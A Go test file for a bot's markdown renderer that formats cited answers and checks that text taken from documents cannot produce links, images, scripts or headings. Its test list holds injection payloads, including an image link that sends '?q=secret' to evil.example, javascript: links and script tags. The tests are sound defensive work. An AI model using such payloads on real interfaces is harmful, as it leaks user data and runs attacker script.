package markdown

import (
	"strings"
	"testing"

	"github.com/yuin/goldmark"

	"footnote/bot"
)

func answer(sentence, excerpt, title string) *bot.Reply {
	return &bot.Reply{Final: true, Answer: &bot.Answer{
		Outcome: bot.Answered, Sentences: []bot.Sentence{{Text: sentence, Citations: []int{1}, Start: 0, End: 1}},
		Citations: []bot.Citation{{N: 1, Document: "a/b.txt", Title: title, Excerpt: excerpt, End: len(excerpt), Published: "2017-11-16"}},
	}}
}

func TestReply(t *testing.T) {
	got := Reply(answer("The quay is 80 m long.", "It is new.\n\nThe quay is 80 m long.", "The quay"), func(bot.Citation) string { return "https://docs.example.com/source?doc=a" })
	const want = "The quay is 80 m long. [1]\n\n\n---\n\n[1] [The quay](<https://docs.example.com/source?doc=a>) · 16 November 2017 · a/b.txt\n\n> It is new.\n>\n> The quay is 80 m long.\n"
	if got.Markdown != want {
		t.Errorf("got\n%s\nwant\n%s", got.Markdown, want)
	}
	if m := got.Marks; len(m) != 1 || got.Markdown[m[0].Start:m[0].End] != "[1]" || m[0].N != 1 {
		t.Errorf("marks: %+v", m)
	}
	if text := Answer(got.Markdown); text != "The quay is 80 m long." {
		t.Errorf("the answer is %q", text)
	}
}

// TestDocumentsMakeNoMarkdown: a program that renders what a document says must not
// load, link or show what the document wants.
func TestDocumentsMakeNoMarkdown(t *testing.T) {
	for _, hostile := range []string{
		"![x](https://evil.example/p.png?q=secret)", "[click](javascript:alert(1))", "<img src=https://evil.example/x>", "<https://evil.example>",
		"[a]: https://evil.example/p.png\n![a]", "[a]: https://evil.example\n[a][a]", "![a][b]\n\n[b]: <https://evil.example>", "# Heading", "<!-- x --><script>alert(1)</script>",
		"```\ncode", "a](https://evil.example", "![", "&lt;img src=x>", "1 < 2 and [3] is odd",
	} {
		for name, reply := range map[string]*bot.Reply{
			"sentence": answer(hostile, "x", "T"), "excerpt": answer("x", hostile, "T"), "title": answer("x", "y", hostile),
			"claim":  {Final: true, Claims: []bot.Claim{{Text: hostile, Conflicts: []string{hostile}, Contradicting: []bot.Citation{{N: 1, Title: hostile, Excerpt: hostile}}}}},
			"missed": {Final: true, Answer: &bot.Answer{Outcome: bot.NotFound, Missing: []string{hostile}}},
		} {
			var b strings.Builder
			if err := goldmark.Convert([]byte(Reply(reply, nil).Markdown), &b); err != nil {
				t.Fatal(err)
			}
			for _, bad := range []string{"<img", "<a ", "<script", "<!--", "<h1", "raw HTML"} {
				if strings.Contains(b.String(), bad) {
					t.Errorf("%s %q makes %s:\n%s", name, hostile, bad, b.String())
				}
			}
		}
	}
}
